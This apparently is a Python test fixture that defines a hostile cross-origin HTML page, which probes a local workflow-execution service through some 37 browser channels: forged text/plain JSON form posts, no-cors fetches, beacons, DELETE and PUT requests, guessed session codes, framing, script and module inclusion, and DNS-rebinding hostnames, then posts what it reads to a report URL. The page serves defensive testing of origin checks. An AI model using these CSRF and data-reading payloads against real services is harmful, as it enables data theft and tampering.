"""A page of another origin that attacks a receiver in every way that a page has."""

from __future__ import annotations

from typing import Final

SECRET: Final = "the-secret-of-the-history"
"""A text that only the history has."""

WAYS: Final = (
    "a form",
    "a form of files",
    "a form of plain text",
    "a form that navigates the whole page",
    "fetch with text/plain",
    "fetch with a Blob without type",
    "fetch with a Blob of JSON",
    "fetch with JSON, after a preflight",
    "fetch with credentials",
    "fetch that outlives the page",
    "fetch of a payload",
    "fetch without CORS",
    "fetch to delete",
    "fetch to star",
    "fetch of a link for pages",
    "fetch with a guessed code",
    "fetch with a token in the address",
    "fetch with a password in the address",
    "XMLHttpRequest with text/plain",
    "XMLHttpRequest of a payload",
    "a beacon of text",
    "a beacon of a Blob",
    "a beacon of JSON",
    "a ping of a link",
    "a report of a refused script",
    "an event stream",
    "a WebSocket",
    "a frame that is read",
    "a frame that gets messages",
    "an opened window that is read",
    "an imported script",
    "an imported module",
    "a style sheet",
    "a worker",
    "an object",
    "an image",
    "another name of this machine",
)
"""The ways in, which `PAGE` has by the same names."""

PAGE: Final = """<!doctype html><title>attack</title><body><script>
const base = "BASE", port = new URL(base).port;
const paths = ["/api/executions/known", "/api/executions?payloads=true",
  "/api/executions/known/trigger/data/raw", "/api/stats", "/"];
const record = (name) => JSON.stringify({id: "attack " + name, workflowId: "w", workflowName: "W",
  status: "success", startedAt: "2026-11-22T10:00:00Z"});
const ingest = base + "/api/executions";
const waited = (begin, seconds = 3) => Promise.race([
  new Promise(begin), new Promise((done) => setTimeout(() => done("nothing"), seconds * 1000))]);
const element = (tag, name, url, shown) => waited((done) => {
  const made = document.createElement(tag);
  made.onload = () => done(shown ? shown(made) : "nothing");
  made.onerror = () => done("nothing");
  made[name] = url;
  document.body.append(made);
});
const form = (name, enctype, target) => waited((done) => {
  const frame = document.createElement("iframe");
  frame.name = "frame-" + name;
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action: ingest, enctype, target: target ?? frame.name});
  const input = document.createElement("input");
  // As plain text, the name, an equals sign and the value are the body.
  input.name = record(name).slice(0, -1) + ', "name": "';
  input.value = '"}';
  made.append(input);
  frame.onload = () => frame.contentWindow && setTimeout(() => done("nothing"), 200);
  document.body.append(frame, made);
  made.submit();
});
const post = (name, body, options = {}) =>
  fetch(ingest, {method: "POST", mode: "no-cors", body, ...options}).then((a) => a.text());
const read = (options = {}) => Promise.all(
  paths.map((path) => fetch(base + path, options).then((a) => a.text()))).then(String);
const xhr = (method, url, body) => waited((done) => {
  const request = new XMLHttpRequest();
  request.onloadend = () => done(request.responseText);
  request.open(method, url);
  request.send(body);
});
const blob = (name, type) => new Blob([record(name)], {type});
const json = {"content-type": "application/json"};
const ways = {
  "a form": (name) => form(name, "application/x-www-form-urlencoded"),
  "a form of files": (name) => form(name, "multipart/form-data"),
  "a form of plain text": (name) => form(name, "text/plain"),
  "a form that navigates the whole page": (name) => waited((done) => {
    const inner = document.createElement("iframe");
    inner.srcdoc = `<form method=post enctype=text/plain action="${ingest}"><input name='${
      record(name).slice(0, -1)}, "name": "' value='"}'></form>` +
      "<script>document.forms[0].submit()<\\/script>";
    inner.onload = () => setTimeout(() => done("nothing"), 300);
    document.body.append(inner);
  }),
  "fetch with text/plain": (name) => post(name, record(name)),
  "fetch with a Blob without type": (name) => post(name, blob(name, "")),
  "fetch with a Blob of JSON": (name) => post(name, blob(name, "application/json")),
  "fetch with JSON, after a preflight": (name) =>
    post(name, record(name), {mode: "cors", headers: json}),
  "fetch with credentials": () => read({credentials: "include"}),
  "fetch that outlives the page": (name) => post(name, record(name), {keepalive: true}),
  "fetch of a payload": () => read(),
  "fetch without CORS": () => read({mode: "no-cors"}),
  "fetch to delete": () => fetch(base + "/api/executions/known", {method: "DELETE"}),
  "fetch to star": () => fetch(base + "/api/executions/known/star", {method: "PUT"}),
  "fetch of a link for pages": () =>
    fetch(base + "/api/links", {method: "POST"}).then((a) => "SECRET " + a.text()),
  "fetch with a guessed code": () => fetch(base + "/api/sessions",
    {method: "POST", headers: json, body: '{"code": "x"}'}).then((a) => "SECRET " + a.text()),
  "fetch with a token in the address": () => Promise.all(
    ["token", "access_token", "session", "code"].map((key) =>
      fetch(`${base}/api/executions/known?${key}=SESSION`).then((a) => a.text()))).then(String),
  "fetch with a password in the address": () => xhr("GET",
    base.replace("//", "//flightlog:SESSION@") + paths[0]),
  "XMLHttpRequest with text/plain": (name) => xhr("POST", ingest, record(name)),
  "XMLHttpRequest of a payload": () => xhr("GET", base + paths[0]),
  "a beacon of text": (name) => navigator.sendBeacon(ingest, record(name)),
  "a beacon of a Blob": (name) => navigator.sendBeacon(ingest, blob(name, "text/plain")),
  "a beacon of JSON": (name) => navigator.sendBeacon(ingest, blob(name, "application/json")),
  "a ping of a link": () => waited((done) => {
    const link = document.createElement("a");
    Object.assign(link, {href: "#x", ping: ingest});
    document.body.append(link);
    link.click();
    setTimeout(() => done("nothing"), 300);
  }),
  "a report of a refused script": () => waited((done) => {
    const frame = document.createElement("iframe");
    frame.src = "/reporting";
    frame.onload = () => setTimeout(() => done("nothing"), 300);
    document.body.append(frame);
  }),
  "an event stream": () => waited((done) => {
    const source = new EventSource(base + "/api/events");
    source.onopen = source.onmessage = (event) => done("SECRET " + event.data);
    source.onerror = () => done("nothing");
  }),
  "a WebSocket": () => waited((done) => {
    const socket = new WebSocket(base.replace("http", "ws") + "/api/events");
    socket.onopen = () => done("SECRET");
    socket.onerror = () => done("nothing");
  }),
  "a frame that is read": () => element("iframe", "src", base + "/", (frame) => {
    try { return frame.contentDocument.body.innerText + frame.contentWindow.localStorage; }
    catch { return "nothing"; }
  }),
  "a frame that gets messages": () => element("iframe", "src", base + "/", (frame) =>
    new Promise((done) => {
      addEventListener("message", (event) => done(event.data));
      frame.contentWindow.postMessage({type: "session"}, "*");
      setTimeout(() => done("nothing"), 300);
    })),
  "an opened window that is read": () => waited((done) => {
    const opened = window.open(base + "/executions/known");
    setTimeout(() => {
      try { done(opened.document.body.innerText); } catch { done("nothing"); }
    }, 1000);
  }),
  "an imported script": () => element("script", "src", base + paths[1]),
  "an imported module": () => import(base + paths[1]).then((found) => JSON.stringify(found)),
  "a style sheet": () => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    document.body.append(link);
    return waited((done) => {
      link.onload = () => done([...document.styleSheets].map((s) => s.cssRules).join());
      link.onerror = () => done("nothing");
      link.href = base + paths[1];
    });
  },
  "a worker": () => waited((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${base + paths[0]}")
      .then((a) => a.text()).then(postMessage, () => postMessage("nothing"))`])));
    worker.onmessage = (event) => done(event.data);
    worker.onerror = () => done("nothing");
  }),
  "an object": () => element("object", "data", base + paths[0], (made) => {
    try { return made.contentDocument.body.innerText; } catch { return "nothing"; }
  }),
  "an image": () => element("img", "src", base + paths[2], () => "SECRET"),
  "another name of this machine": (name) => Promise.all(["rebind.example", "localtest.me"].map(
    (host) => fetch(`http://${host}:${port}/api/executions/known`).then((a) => a.text())))
    .then(String),
};
addEventListener("load", async () => {
  const seen = {};
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    try { seen[name] = String(await way(name)); } catch (error) { seen[name] = `refused ${error}`; }
  }));
  const shown = JSON.stringify(seen);
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: shown});
});
</script>"""

REPORTING: Final = """<!doctype html><title>reports</title><script>alert(1)</script>"""
"""A page whose refused script its browser reports to the receiver."""
